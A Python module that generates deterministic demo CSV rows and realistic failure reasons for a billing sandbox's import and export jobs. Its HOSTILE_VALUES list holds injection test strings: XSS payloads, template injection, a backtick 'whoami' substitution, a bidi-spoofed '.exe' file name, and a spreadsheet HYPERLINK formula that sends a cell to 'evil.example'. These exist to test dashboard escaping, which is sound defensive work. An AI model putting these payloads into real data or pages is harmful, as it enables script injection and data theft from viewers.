"""The rows of the sandbox's demo files, and the reasons their failing rows give.

Every row is a pure function of (job key, row index): one hash of the two feeds all the
choices, so any row of a 300,000-row file is computed alone, in microseconds, and every
process computes the same one. Reasons are shaped like the real processors' (API-NOTES.md,
"Reasons as the real processors write them") and carry the row's own values, so a failure,
the error CSV and the input CSV tell the same story.
"""

from __future__ import annotations

import hashlib
import re
import time
from bisect import bisect_right
from collections.abc import Callable, Sequence
from dataclasses import dataclass, field
from datetime import UTC, datetime
from functools import lru_cache
from itertools import accumulate

_BASE62 = "0123456789ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz"
_BASE62_PAIRS = [a + b for a in _BASE62 for b in _BASE62]
_U128 = (1 << 128) - 1

# What a CSV cell can hold, so what a reason or an identifier can hold: each of these has
# broken a dashboard somewhere (script injection, template injection, spreadsheet formulas
# on export, bidi spoofing, layout-breaking length, multi-line cells).
HOSTILE_VALUES: tuple[str, ...] = (
    "<script>alert(1)</script>",
    '"><img src=x onerror=alert(1)>',
    'O\'Brien "Consulting" `whoami` & Sons',
    "{{ 7*7 }}",
    '{% now "Y" %}',
    "javascript:alert(1)",
    '=HYPERLINK("https://evil.example/?d="&A1,"Click for details")',
    "+1",
    "-2",
    "@SUM(A1:A9)",
    "invoice-\u202egpj.exe",
    "Café 🧾💥 Z\u0335\u0321a\u0334l\u0337g\u0336o\u0338 ñ",
    "very-long-alias-" * 130,
    'line one\r\nline two, "quoted"',
)
HOSTILE_FILE_NAME = '"><img src=x onerror=alert(1)> Q4 \u202ecustomers-final.csv'


_blake2b = hashlib.blake2b
_from_bytes = int.from_bytes
# A version-4 UUID's version and variant bits: cleared, then set.
_UUID_CLEAR = ~((0xF000 << 64) | (0xC000 << 48))
_UUID_SET = (0x4000 << 64) | (0x8000 << 48)


def _hash(data: bytes) -> int:
    return _from_bytes(_blake2b(data, digest_size=64).digest())


class Draw:
    """Deterministic choices peeled off one 512-bit hash of `parts`, digit by digit."""

    __slots__ = ("_bits",)

    def __init__(self, *parts: object) -> None:
        self._bits = _hash("\x1f".join(map(str, parts)).encode())

    @classmethod
    def of_row(cls, key: bytes, r: int, group: bytes = b"") -> Draw:
        """The draw of row `r` (or of one group of its cells) of the job with hash key
        `key`: the same as Draw(key, r[, group]), made faster for the hot path."""
        draw = cls.__new__(cls)
        draw._bits = _from_bytes(
            _blake2b(
                b"%b\x1f%d\x1f%b" % (key, r, group) if group else b"%b\x1f%d" % (key, r), digest_size=64
            ).digest()
        )
        return draw

    def below(self, n: int) -> int:
        """An integer in [0, n)."""
        self._bits, value = divmod(self._bits, n)
        return value

    def bits(self, k: int) -> int:
        """An integer of `k` bits: the same as below(1 << k), by shifting rather than dividing."""
        value = self._bits & ((1 << k) - 1)
        self._bits >>= k
        return value

    def between(self, low: int, high: int) -> int:
        """An integer in [low, high]."""
        return low + self.below(high - low + 1)

    def unit(self) -> float:
        """A float in [0, 1)."""
        value = self._bits & 0xFFFFFF
        self._bits >>= 24
        return value / (1 << 24)

    def pick[T](self, options: Sequence[T]) -> T:
        return options[self.below(len(options))]

    def uuid_int(self) -> int:
        """128 bits shaped as a version-4 UUID."""
        value = self._bits & _U128
        self._bits >>= 128
        return (value & _UUID_CLEAR) | _UUID_SET


def base62(value: int, width: int = 22) -> str:
    """`value` in base 62, left-padded to `width` characters (22 holds 128 bits)."""
    # Two digits per division: this runs for every id of every row.
    pairs, digits = _BASE62_PAIRS, []
    for _ in range((width + 1) // 2):
        value, pair = divmod(value, 3844)
        digits.append(pairs[pair])
    digits.reverse()
    return "".join(digits)[-width:]


def parse_base62(text: str) -> int | None:
    """The number a Meteroid id's base62 part spells, or None when it is not one."""
    if not 0 < len(text) <= 22:
        return None
    value = 0
    for char in text:
        digit = _BASE62.find(char)
        if digit < 0:
            return None
        value = value * 62 + digit
    return value if value <= _U128 else None


def uuid_text(value: int) -> str:
    text = value.to_bytes(16).hex()
    return f"{text[:8]}-{text[8:12]}-{text[12:16]}-{text[16:20]}-{text[20:]}"


def meteroid_id(prefix: str, *parts: object) -> str:
    """`prefix` + base62 of a UUID drawn from `parts`, like `bjob_7n42DGM5Tflk9n8mt7Fhc7`."""
    return prefix + base62(Draw(*parts).uuid_int())


def _slug(text: str) -> str:
    return re.sub(r"[^a-z0-9]+", "-", text.lower()).strip("-")


def _day(ms: int) -> str:
    return datetime.fromtimestamp(ms / 1000, UTC).strftime("%Y-%m-%d")


def _instant(ms: int) -> str:
    return time.strftime("%Y-%m-%dT%H:%M:%SZ", time.gmtime(ms // 1000))


# --- The tenant's world: customers and plans the rows refer to ---------------------------

_PREFIXES = (
    "Acme", "Nordwind", "Bluefin", "Helios", "Kestrel", "Lumen", "Orbital", "Papaya", "Quartz",
    "Redwood", "Sable", "Tessera", "Umbra", "Vertex", "Willow", "Zephyr", "Alpenglow", "Cobalt",
)  # fmt: skip
_NOUNS = (
    "Analytics", "Logistics", "Robotics", "Media", "Foods", "Health", "Energy", "Labs",
    "Software", "Studio", "Systems", "Travel",
)  # fmt: skip
_SUFFIXES = ("GmbH", "SAS", "Ltd", "Inc.", "BV", "AB", "SL", "AG", "LLC", "Oy")
# Words of European company names, every letter in Windows-1252 (and in Latin-1).
_ACCENTED = (
    "Électronique", "Bäckerei", "Société Générale", "Kühlhaus", "Façades", "Öresund", "Brødrene",
    "Crème & Café", "Müller", "Señorío", "Zürich", "Ångström",
)  # fmt: skip
_TLDS = ("com", "de", "fr", "io", "co.uk", "nl", "eu")
_CURRENCIES = ("EUR", "EUR", "EUR", "USD", "USD", "GBP", "CHF", "SEK")
_COUNTRIES = ("DE", "FR", "NL", "GB", "US", "ES", "IT", "CH", "BE", "AT", "SE")
_PLAN_ALIASES = (
    "starter-monthly", "pro-monthly", "pro-annual", "growth-monthly", "team-annual",
    "enterprise-eu", "scale-usage", "legacy-2024",
)  # fmt: skip
_EVENT_CODES = (
    "api_calls", "storage_gb_hours", "seats_active", "compute_minutes", "emails_sent",
    "sms_sent", "bandwidth_gb",
)  # fmt: skip
_REGIONS = ("eu-west-1", "eu-central-1", "us-east-1", "us-west-2", "ap-southeast-1")
_BILLING_PERIODS = ("MONTHLY", "MONTHLY", "MONTHLY", "QUARTERLY", "ANNUAL")
_CUSTOMER_POOL = 480
_PLAN_POOL = 12


@dataclass(frozen=True, slots=True)
class Customer:
    id: str
    alias: str
    name: str


@lru_cache(maxsize=4096)
def customer(seed: int, index: int) -> Customer:
    """One customer of the sandbox tenant, which imported rows refer to."""
    d = Draw(seed, "customer", index)
    prefix, noun, suffix = d.pick(_PREFIXES), d.pick(_NOUNS), d.pick(_SUFFIXES)
    # The first few have short aliases like `acme-gmbh`; the rest need a number to be unique.
    alias = _slug(f"{prefix} {suffix}")
    if index < len(_PREFIXES):
        prefix = _PREFIXES[index]
        alias = _slug(f"{prefix} {suffix}")
    else:
        alias = f"{alias}-{index}"
    return Customer(id=f"cus_{base62(d.uuid_int())}", alias=alias, name=f"{prefix} {noun} {suffix}")


@lru_cache(maxsize=64)
def plan_id(seed: int, index: int) -> str:
    return meteroid_id("plan_", seed, "plan", index)


# --- One row ------------------------------------------------------------------------------


@dataclass(frozen=True, slots=True)
class Row:
    """One row of an input file; `reason` is set when the row has a failure record."""

    id: str  # the failure record's id (a UUID), drawn whether or not the row failed
    values: list[str]
    reason: str | None = None
    identifier: str | None = None


@dataclass(frozen=True, slots=True)
class Context:
    """What a row needs to know of its job."""

    seed: int
    key: bytes  # the job's hash key
    created_ms: int
    header_bytes: int
    line_bytes: int
    # A file from a European system in Windows-1252: names carry accents, and no failing row
    # gets a hostile value (emoji and controls cannot be written in that encoding).
    accents: bool = False


class Values(dict[str, str]):
    """A row's cells by column. Each group of cells is computed on first use from its own
    hash of (job, row, group), so a failure record pays only for the cells its reason
    shows, and a cause can spoil one cell before or after the others are computed."""

    __slots__ = ("ctx", "kind", "r", "width")

    def __init__(self, kind: FileKind, ctx: Context, r: int) -> None:
        self.kind, self.ctx, self.r = kind, ctx, r
        self.width = len(kind.columns)  # a row with too few fields has a smaller one

    def __missing__(self, column: str) -> str:
        group, make = self.kind.makers[column]
        cells = make(Draw.of_row(self.ctx.key, self.r, group), self)
        if type(cells) is str:  # the group of this one cell
            self[column] = cells
            return cells
        for name, value in cells.items():
            self.setdefault(name, value)
        return cells[column]

    def has(self, column: str) -> bool:
        return column in self.kind.makers

    def cells(self) -> list[str]:
        return [self[column] for column in self.kind.columns[: self.width]]


# A maker computes one group of cells (the cell alone, for a group of one); a cause fills
# in a failing row: it may spoil the row's cells the way its reason says, and returns
# (reason, item_identifier).
type Maker = Callable[[Draw, Values], dict[str, str] | str]
type Cause = Callable[[Values, Draw], tuple[str, str | None]]
type HostileCause = Callable[[Values, Draw, str], tuple[str, str | None]]


def _parse_position(row: Values) -> str:
    # The csv crate counts the header as record 0 on line 1. The byte offset is an estimate
    # (header + r average lines): the exact one would need every earlier row computed.
    r, ctx = row.r, row.ctx
    return f"record {r + 1} (line: {r + 2}, byte: {ctx.header_bytes + r * ctx.line_bytes})"


def _deserialize_error(row: Values, field: int, message: str) -> str:
    return f"Failed to parse row: CSV deserialize error: {_parse_position(row)}: field {field}: {message}"


def _first_seen(d: Draw, r: int) -> int:
    """An earlier row (0-based) for a duplicate; row 0 has none, so it points at itself."""
    return r - d.between(1, min(r, 300)) if r else 0


def _short_record(row: Values, d: Draw) -> tuple[str, str | None]:
    columns = len(row.kind.columns)
    row.width = d.between(2, columns - 2)
    return (
        f"Failed to parse row: CSV error: {_parse_position(row)}: "
        f"found record with {row.width} fields, but the previous record has {columns} fields"
    ), None


def _deadlock(key: str) -> Cause:
    def cause(row: Values, d: Draw) -> tuple[str, str | None]:
        return "Database error: deadlock detected", row[key]

    return cause


def _timeout(row: Values, d: Draw) -> tuple[str, str | None]:
    return "Database error: canceling statement due to statement timeout", None


# --- Customers ------------------------------------------------------------------------------

_CUSTOMER_COLUMNS = ("name", "alias", "billing_email", "currency", "country", "net_terms")


def _customer_who(d: Draw, row: Values) -> dict[str, str]:
    prefix, noun, suffix = d.pick(_PREFIXES), d.pick(_NOUNS), d.pick(_SUFFIXES)
    mailbox = d.pick(("billing", "ap", "finance", "invoices", "accounts"))
    # Only the name: aliases and mailboxes stay ASCII, as systems make them.
    named = f"{noun} {d.pick(_ACCENTED)}" if row.ctx.accents else noun
    return {
        "name": f"{prefix} {named} {suffix}",
        "alias": f"{_slug(f'{prefix} {noun}')}-{row.r + 1}",
        "billing_email": f"{mailbox}@{_slug(prefix + noun)}.{d.pick(_TLDS)}",
    }


def _customer_duplicate(row: Values, d: Draw) -> tuple[str, str | None]:
    first = _first_seen(d, row.r)
    row["alias"] = Values(row.kind, row.ctx, first)["alias"]
    return f"Duplicate alias '{row['alias']}' within the same batch (first seen at row {first + 1})", row[
        "alias"
    ]


def _customer_bad_email(row: Values, d: Draw) -> tuple[str, str | None]:
    local, domain = row["billing_email"].split("@")
    row["billing_email"] = d.pick(
        (f"{local}.{domain}", f"{local}@@{domain}", f"{local}@", f"{local} @{domain}")
    )
    return "Failed to convert to domain: billing_email is not a valid email", row["alias"]


def _customer_unknown_alias(row: Values, d: Draw) -> tuple[str, str | None]:
    return f"Customer with alias '{row['alias']}' not found", row["alias"]


def _customer_bad_terms(row: Values, d: Draw) -> tuple[str, str | None]:
    row["net_terms"] = d.pick(("30 days", "net30", "thirty", "30.0", "N/A"))
    return _deserialize_error(row, 5, "invalid digit found in string"), None


def _customer_bad_currency(row: Values, d: Draw) -> tuple[str, str | None]:
    row["currency"] = d.pick(("EURO", "usd ", "BTC", "€", "XYZ"))
    return f"Failed to convert to domain: currency '{row['currency']}' is not supported", row["alias"]


def _customer_bad_country(row: Values, d: Draw) -> tuple[str, str | None]:
    row["country"] = d.pick(("Germany", "UK", "D", "FRA", "EU"))
    reason = f"Failed to convert to domain: country '{row['country']}' is not an ISO 3166-1 alpha-2 code"
    return reason, row["alias"]


def _customer_no_name(row: Values, d: Draw) -> tuple[str, str | None]:
    row["name"] = ""
    return "Failed to convert to domain: name must not be empty", row["alias"]


def _customer_no_entity(row: Values, d: Draw) -> tuple[str, str | None]:
    return f"No invoicing entity found for country '{row['country']}'", row["alias"]


def _customer_unique_alias(row: Values, d: Draw) -> tuple[str, str | None]:
    constraint = "customer_alias_tenant_id_key"
    return f'Database error: duplicate key value violates unique constraint "{constraint}"', row["alias"]


def _customer_hostile(row: Values, d: Draw, value: str) -> tuple[str, str | None]:
    row["alias"] = value
    if d.below(2):
        row["name"] = value
        return f"Customer with alias '{value}' not found", value
    first = _first_seen(d, row.r)
    return f"Duplicate alias '{value}' within the same batch (first seen at row {first + 1})", value


# --- Events ---------------------------------------------------------------------------------

_EVENT_COLUMNS = ("event_id", "event_code", "customer_id", "customer_alias", "timestamp", "properties")


def _event_customer(d: Draw, row: Values) -> dict[str, str]:
    who = customer(row.ctx.seed, d.below(_CUSTOMER_POOL))
    by_id = d.below(10) < 7
    return {"customer_id": who.id if by_id else "", "customer_alias": "" if by_id else who.alias}


def _event_properties(d: Draw, row: Values) -> dict[str, str]:
    return {"properties": f'{{"region":"{d.pick(_REGIONS)}","quantity":{d.between(1, 500)}}}'}


def _event_unknown_customer_id(row: Values, d: Draw) -> tuple[str, str | None]:
    if not row["customer_id"]:
        row["customer_id"], row["customer_alias"] = f"cus_{base62(d.uuid_int())}", ""
    return f"Customer '{row['customer_id']}' not found", row["event_id"]


def _event_unknown_alias(row: Values, d: Draw) -> tuple[str, str | None]:
    if not row["customer_alias"]:
        row["customer_id"] = ""
        row["customer_alias"] = f"{customer(row.ctx.seed, d.below(_CUSTOMER_POOL)).alias}-old"
    return f"Customer with alias '{row['customer_alias']}' not found", row["event_id"]


def _event_no_code(row: Values, d: Draw) -> tuple[str, str | None]:
    row["event_code"] = d.pick(("", " "))
    return "Event code is required and cannot be empty", row["event_id"]


def _event_bad_timestamp(row: Values, d: Draw) -> tuple[str, str | None]:
    stamp = datetime.fromisoformat(row["timestamp"])
    row["timestamp"] = stamp.strftime(d.pick(("%d/%m/%Y %H:%M", "%Y-%m-%d %H:%M", "%d.%m.%Y")))
    message = "premature end of input" if ":" not in row["timestamp"] else "input contains invalid characters"
    return _deserialize_error(row, 4, message), None


def _event_bad_properties(row: Values, d: Draw) -> tuple[str, str | None]:
    row["properties"] = row["properties"].replace(",", " ", 1)
    column = row["properties"].index(" ") + 2
    reason = f"Failed to convert to domain: properties is not valid JSON: expected `,` or `}}` at line 1 column {column}"
    return reason, row["event_id"]


def _event_too_old(row: Values, d: Draw) -> tuple[str, str | None]:
    row["timestamp"] = _instant(row.ctx.created_ms - d.between(36, 400) * 86_400_000)
    reason = (
        f"Failed to convert to domain: timestamp {row['timestamp']} is outside the ingestion window (35 days)"
    )
    return reason, row["event_id"]


def _event_duplicate(row: Values, d: Draw) -> tuple[str, str | None]:
    first = _first_seen(d, row.r)
    row["event_id"] = Values(row.kind, row.ctx, first)["event_id"]
    return (
        f"Duplicate event_id '{row['event_id']}' within the same batch (first seen at row {first + 1})",
        row["event_id"],
    )


def _event_kafka(row: Values, d: Draw) -> tuple[str, str | None]:
    reason = "Failed to publish event: Message production error: MessageTimedOut (Local: Message timed out)"
    return reason, row["event_id"]


def _event_hostile(row: Values, d: Draw, value: str) -> tuple[str, str | None]:
    row["event_id"], row["customer_alias"], row["customer_id"] = value, value, ""
    return f"Customer with alias '{value}' not found", value


# --- Subscriptions and plan migrations ------------------------------------------------------

_SUBSCRIPTION_COLUMNS = ("customer_id", "customer_alias", "plan", "version", "start_date", "billing_period")
_MIGRATION_COLUMNS = ("subscription_id", "customer_id", "plan", "version")


def _subscription_customer(d: Draw, row: Values) -> dict[str, str]:
    who = customer(row.ctx.seed, d.below(_CUSTOMER_POOL))
    if not row.has("customer_alias"):
        return {"customer_id": who.id}
    by_id = d.below(2) == 0
    return {"customer_id": who.id if by_id else "", "customer_alias": "" if by_id else who.alias}


def _plan(d: Draw, row: Values) -> dict[str, str]:
    if d.below(2):
        return {"plan": plan_id(row.ctx.seed, d.below(_PLAN_POOL)), "version": str(d.between(1, 6))}
    return {"plan": d.pick(_PLAN_ALIASES), "version": ""}


def _customer_ref(row: Values) -> str | None:
    return row["customer_alias"] or row["customer_id"] or None


def _subscription_key(row: Values) -> str | None:
    """The identifier of a subscription row: the subscription (migrations) or its customer."""
    return row["subscription_id"] if row.has("subscription_id") else _customer_ref(row)


def _no_version(row: Values, d: Draw) -> tuple[str, str | None]:
    if not row["version"]:
        row["plan"], row["version"] = plan_id(row.ctx.seed, d.below(_PLAN_POOL)), str(d.between(2, 9))
    return f"No published version {row['version']} found for plan '{row['plan']}'", _subscription_key(row)


def _no_published(row: Values, d: Draw) -> tuple[str, str | None]:
    if row["version"]:
        row["plan"], row["version"] = d.pick(_PLAN_ALIASES), ""
    return f"No published version found for plan '{row['plan']}'", _subscription_key(row)


def _unknown_customer_id(row: Values, d: Draw) -> tuple[str, str | None]:
    row["customer_id"] = f"cus_{base62(d.uuid_int())}"
    if row.has("customer_alias"):
        row["customer_alias"] = ""
    return f"Customer '{row['customer_id']}' not found", _subscription_key(row)


def _subscription_unknown_alias(row: Values, d: Draw) -> tuple[str, str | None]:
    alias = customer(row.ctx.seed, d.below(_CUSTOMER_POOL)).alias
    row["customer_id"], row["customer_alias"] = "", f"{alias}-{d.pick(('old', 'test', '2'))}"
    return f"Customer with alias '{row['customer_alias']}' not found", row["customer_alias"]


def _subscription_bad_date(row: Values, d: Draw) -> tuple[str, str | None]:
    year, month, day = row["start_date"].split("-")
    row["start_date"] = d.pick((f"{day}/{month}/{year}", f"{month}/{day}/{year}", f"{year}-{month}"))
    short = row["start_date"].count("-") == 1
    return _deserialize_error(
        row, 4, "premature end of input" if short else "input contains invalid characters"
    ), None


def _subscription_bad_period(row: Values, d: Draw) -> tuple[str, str | None]:
    row["billing_period"] = d.pick(("BIWEEKLY", "monthly ", "yearly", "12"))
    reason = (
        f"Failed to convert to domain: billing_period '{row['billing_period']}' is not one of "
        "MONTHLY, QUARTERLY, ANNUAL"
    )
    return reason, _customer_ref(row)


def _subscription_exists(row: Values, d: Draw) -> tuple[str, str | None]:
    ref = _customer_ref(row)
    return f"Customer '{ref}' already has an active subscription to plan '{row['plan']}'", ref


def _plan_archived(row: Values, d: Draw) -> tuple[str, str | None]:
    return f"Plan '{row['plan']}' is archived and accepts no new subscriptions", _subscription_key(row)


def _migration_unknown(row: Values, d: Draw) -> tuple[str, str | None]:
    return f"Subscription '{row['subscription_id']}' not found", row["subscription_id"]


def _migration_cancelled(row: Values, d: Draw) -> tuple[str, str | None]:
    subscription = row["subscription_id"]
    return f"Subscription '{subscription}' is cancelled and cannot be migrated", subscription


def _migration_pending(row: Values, d: Draw) -> tuple[str, str | None]:
    when, subscription = _day(row.ctx.created_ms + d.between(1, 30) * 86_400_000), row["subscription_id"]
    return f"Subscription '{subscription}' already has a plan change scheduled on {when}", subscription


def _migration_currency(row: Values, d: Draw) -> tuple[str, str | None]:
    have, want = d.pick((("EUR", "USD"), ("USD", "EUR"), ("GBP", "EUR"), ("CHF", "EUR")))
    reason = f"Cannot migrate subscription: currency mismatch between subscription ({have}) and plan ({want})"
    return reason, row["subscription_id"]


def _plan_hostile(row: Values, d: Draw, value: str) -> tuple[str, str | None]:
    row["plan"], row["version"] = value, ""
    if row.has("customer_alias"):
        row["customer_id"], row["customer_alias"] = "", value
        return f"No published version found for plan '{value}'", value
    return f"No published version found for plan '{value}'", row["subscription_id"]


# --- The kinds of file ----------------------------------------------------------------------


def _one(column: str, make: Callable[[Draw, Values], str]) -> tuple[str, tuple[str, ...], Maker]:
    """A group of one cell."""
    return column, (column,), make


@dataclass(frozen=True)
class FileKind:
    columns: tuple[str, ...]
    # (group, its columns, its maker): cells drawn together, like a customer's id and alias
    groups: tuple[tuple[str, tuple[str, ...], Maker], ...]
    # (weight, cause): a long tail, from the one cause most rows share to rare ones
    causes: tuple[tuple[float, Cause], ...]
    hostile: HostileCause
    line_bytes: int  # the average line length, for byte offsets in parse errors
    # per column: the hash key of its group, and the group's maker
    makers: dict[str, tuple[bytes, Maker]] = field(init=False)
    thresholds: tuple[float, ...] = field(init=False)  # cumulative shares of `causes`

    def __post_init__(self) -> None:
        total = sum(weight for weight, _ in self.causes)
        shares = tuple(value / total for value in accumulate(weight for weight, _ in self.causes))
        object.__setattr__(self, "thresholds", shares)
        makers = {
            column: (group.encode(), make) for group, columns, make in self.groups for column in columns
        }
        assert set(makers) == set(self.columns)
        object.__setattr__(self, "makers", makers)


FILE_KINDS: dict[str, FileKind] = {
    "CUSTOMER_CSV_IMPORT": FileKind(
        columns=_CUSTOMER_COLUMNS,
        groups=(
            ("who", ("name", "alias", "billing_email"), _customer_who),
            _one("currency", lambda d, row: d.pick(_CURRENCIES)),
            _one("country", lambda d, row: d.pick(_COUNTRIES)),
            _one("net_terms", lambda d, row: d.pick(("0", "14", "30", "30", "45", "60"))),
        ),
        causes=(
            (58, _customer_duplicate),
            (15, _customer_bad_email),
            (8, _customer_unknown_alias),
            (5, _customer_bad_terms),
            (4, _customer_bad_currency),
            (3, _customer_bad_country),
            (2, _short_record),
            (1.5, _customer_no_name),
            (1.2, _customer_no_entity),
            (1, _customer_unique_alias),
            (0.6, _deadlock("alias")),
            (0.4, _timeout),
        ),
        hostile=_customer_hostile,
        line_bytes=92,
    ),
    "EVENT_CSV_IMPORT": FileKind(
        columns=_EVENT_COLUMNS,
        groups=(
            # Event ids are the sender's own; these look like many senders' (64 random bits).
            _one("event_id", lambda d, row: f"evt_{base62(d.bits(64), 11)}"),
            _one("event_code", lambda d, row: d.pick(_EVENT_CODES)),
            ("customer", ("customer_id", "customer_alias"), _event_customer),
            _one("timestamp", lambda d, row: _instant(row.ctx.created_ms - d.below(28 * 86_400) * 1000)),
            ("properties", ("properties",), _event_properties),
        ),
        causes=(
            (60, _event_unknown_customer_id),
            (15, _event_unknown_alias),
            (8, _event_no_code),
            (5, _event_bad_timestamp),
            (4, _event_bad_properties),
            (3, _event_too_old),
            (2, _short_record),
            (1.5, _event_duplicate),
            (0.8, _deadlock("event_id")),
            (0.4, _event_kafka),
            (0.3, _timeout),
        ),
        hostile=_event_hostile,
        line_bytes=131,
    ),
    "SUBSCRIPTION_CSV_IMPORT": FileKind(
        columns=_SUBSCRIPTION_COLUMNS,
        groups=(
            ("customer", ("customer_id", "customer_alias"), _subscription_customer),
            ("plan", ("plan", "version"), _plan),
            _one("start_date", lambda d, row: _day(row.ctx.created_ms + d.between(-20, 40) * 86_400_000)),
            _one("billing_period", lambda d, row: d.pick(_BILLING_PERIODS)),
        ),
        causes=(
            (60, _no_version),
            (15, _unknown_customer_id),
            (8, _no_published),
            (5, _subscription_unknown_alias),
            (4, _subscription_bad_date),
            (3, _subscription_bad_period),
            (2, _subscription_exists),
            (1.5, _plan_archived),
            (1, _short_record),
            (0.6, _deadlock("customer_alias")),
            (0.4, _timeout),
        ),
        hostile=_plan_hostile,
        line_bytes=74,
    ),
    "SUBSCRIPTION_PLAN_MIGRATION": FileKind(
        columns=_MIGRATION_COLUMNS,
        groups=(
            _one("subscription_id", lambda d, row: f"sub_{base62(d.uuid_int())}"),
            ("customer", ("customer_id",), _subscription_customer),
            ("plan", ("plan", "version"), _plan),
        ),
        causes=(
            (60, _no_version),
            (15, _unknown_customer_id),
            (8, _no_published),
            (5, _migration_unknown),
            (4, _migration_cancelled),
            (3, _migration_pending),
            (2, _migration_currency),
            (1.5, _plan_archived),
            (0.8, _deadlock("subscription_id")),
            (0.4, _timeout),
        ),
        hostile=_plan_hostile,
        line_bytes=82,
    ),
}


def columns(job_type: str) -> tuple[str, ...]:
    """The header of the job type's input file."""
    return FILE_KINDS[job_type].columns


def context(seed: int, key: str, job_type: str, created_ms: int, *, accents: bool = False) -> Context:
    """What the rows of one job share."""
    kind = FILE_KINDS[job_type]
    return Context(seed, key.encode(), created_ms, len(",".join(kind.columns)) + 2, kind.line_bytes, accents)


# In jobs that are not the hostile showcase, about one failing row in this many is hostile.
HOSTILE_ONE_IN = 400


def _fail(kind: FileKind, values: Values, d: Draw, hostile_job: bool) -> tuple[str, str | None]:
    """Give the failing row its cause: (reason, item_identifier)."""
    if hostile_job or (d.below(HOSTILE_ONE_IN) == 0 and not values.ctx.accents):
        value = HOSTILE_VALUES[values.r % len(HOSTILE_VALUES)] if hostile_job else d.pick(HOSTILE_VALUES)
        return kind.hostile(values, d, value)
    return kind.causes[bisect_right(kind.thresholds, d.unit())][1](values, d)


def row(job_type: str, ctx: Context, r: int, *, failing: bool, hostile_job: bool = False) -> Row:
    """Row `r` of the job's input file, with its failure when it is `failing`."""
    kind, d = FILE_KINDS[job_type], Draw.of_row(ctx.key, r)
    row_id, values = uuid_text(d.uuid_int()), Values(kind, ctx, r)
    if not failing:
        return Row(row_id, values.cells())
    reason, identifier = _fail(kind, values, d, hostile_job)
    return Row(row_id, values.cells(), reason, identifier)


def failure(job_type: str, ctx: Context, r: int, *, hostile_job: bool = False) -> tuple[str, str, str | None]:
    """(id, reason, item_identifier) of failing row `r`, computing only the cells its reason
    shows: the cheap path for pages of failures."""
    kind, d = FILE_KINDS[job_type], Draw.of_row(ctx.key, r)
    row_id = uuid_text(d.uuid_int())
    return (row_id, *_fail(kind, Values(kind, ctx, r), d, hostile_job))


# --- Tax report exports ------------------------------------------------------------------

OUTPUT_COLUMNS = (
    "invoice_number", "invoice_date", "customer_name", "customer_country", "currency",
    "tax_rate", "net_amount", "tax_amount", "total_amount",
)  # fmt: skip
_TAX_RATES = {"DE": 19, "FR": 20, "NL": 21, "GB": 20, "US": 0, "ES": 21, "IT": 22, "CH": 8, "BE": 21}


def output_row(seed: int, key: str, created_ms: int, r: int) -> list[str]:
    """Row `r` of a tax report export's output file."""
    d = Draw(key, "output", r)
    who = customer(seed, d.below(_CUSTOMER_POOL))
    country = d.pick(tuple(_TAX_RATES))
    rate = _TAX_RATES[country]
    net = d.between(900, 2_500_000)
    tax = net * rate // 100
    return [
        f"INV-{_day(created_ms)[:4]}-{r + 1:06d}",
        _day(created_ms - d.between(1, 31) * 86_400_000),
        who.name,
        country,
        "USD" if country == "US" else "GBP" if country == "GB" else "CHF" if country == "CH" else "EUR",
        f"{rate}.00",
        f"{net / 100:.2f}",
        f"{tax / 100:.2f}",
        f"{(net + tax) / 100:.2f}",
    ]
